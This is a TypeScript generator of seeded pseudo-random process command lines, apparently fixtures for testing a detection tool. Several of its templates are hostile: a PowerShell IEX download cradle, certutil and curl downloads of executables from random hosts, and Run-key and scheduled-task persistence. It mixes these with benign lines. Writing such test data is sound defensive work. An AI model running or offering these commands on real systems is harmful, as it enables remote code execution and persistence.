/** Command lines as process events hold them, made by a generator of pseudo-random numbers: the same ones on each run. */

/** Mulberry32, a generator of 32 bits of state. */
function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

type Random = () => number;
const whole = (random: Random, below: number): number => Math.floor(random() * below);
const pick = <T>(random: Random, of: readonly T[]): T => of[whole(random, of.length)] as T; // the lists below are not empty
const word = (random: Random, length = 4 + whole(random, 8)): string => Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyz'.charAt(whole(random, 26))).join('');
const hex = (random: Random, length: number): string => Array.from({ length }, () => whole(random, 16).toString(16)).join('');
const ip = (random: Random): string => `203.0.${whole(random, 256)}.${whole(random, 256)}`;
const host = (random: Random): string => `${word(random)}.${word(random)}.${pick(random, ['com', 'net', 'org', 'co.uk', 'top', 'ru', 'io'])}`;
const user = (random: Random): string => `C:\\Users\\${word(random, 6)}`;

const FORMS: readonly ((random: Random) => string)[] = [
  (random) => `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s ${word(random)}`,
  (random) => `"C:\\Program Files\\${word(random)}\\${word(random)}.exe" --type=renderer --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=${whole(random, 9999)} /prefetch:${whole(random, 9)}`,
  (random) => `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${user(random)}\\AppData\\Local\\Temp\\${word(random)}.ps1 -Id ${whole(random, 99_999)}`,
  (random) => `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://${host(random)}/${word(random)}.ps1')"`,
  (random) => `cmd.exe /c ping -n ${whole(random, 9)} ${ip(random)} > nul & del ${user(random)}\\${word(random)}.tmp`,
  (random) => `certutil.exe -urlcache -split -f https://${ip(random)}/${word(random)}/${word(random)}.exe ${word(random)}.exe`,
  (random) => `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${word(random)} /t REG_SZ /d ${user(random)}\\${word(random)}.exe /f`,
  (random) => `/usr/bin/python3 /opt/${word(random)}/${word(random)}.py --config /etc/${word(random)}/config.yml --workers ${whole(random, 64)}`,
  (random) => `curl -s -o /tmp/${word(random)} http://${host(random)}:${1024 + whole(random, 60_000)}/${hex(random, 12)} && chmod +x /tmp/${word(random)}`,
  (random) => `git commit -m "${word(random)} ${word(random)} ${word(random)}" --author ${word(random)}@${host(random)}`,
  (random) => `schtasks /create /tn ${word(random)} /tr "${user(random)}\\${word(random)} ${word(random)}.exe" /sc minute /mo ${whole(random, 60)}`,
  (random) => `rundll32.exe ${user(random)}\\${word(random)}.dll,${word(random)} ${hex(random, 32)}`,
  (random) => `docker run --rm -e TOKEN=${hex(random, 40)} registry.${host(random)}/${word(random)}:${whole(random, 9)}.${whole(random, 20)}.${whole(random, 9)}`,
  (random) => `wmic process call create "${word(random)} ${word(random)} ${whole(random, 100)}" /node:${word(random)}`,
  (random) => `tar -czf backup-${whole(random, 9999)}.tar.gz ${word(random)} ${word(random)} --exclude=${word(random)}`,
  (random) => `java -Xmx${whole(random, 16)}g -jar ${word(random)}-${whole(random, 9)}.${whole(random, 9)}.jar --server.port=${1024 + whole(random, 60_000)} --spring.profiles.active=${word(random)}`,
];

/** `count` distinct lines of sixteen forms; about half of them hold an indicator other than a path. */
export function commandLines(count: number, seed = 7): string[] {
  const random = numbers(seed);
  return Array.from({ length: count }, () => pick(random, FORMS)(random));
}
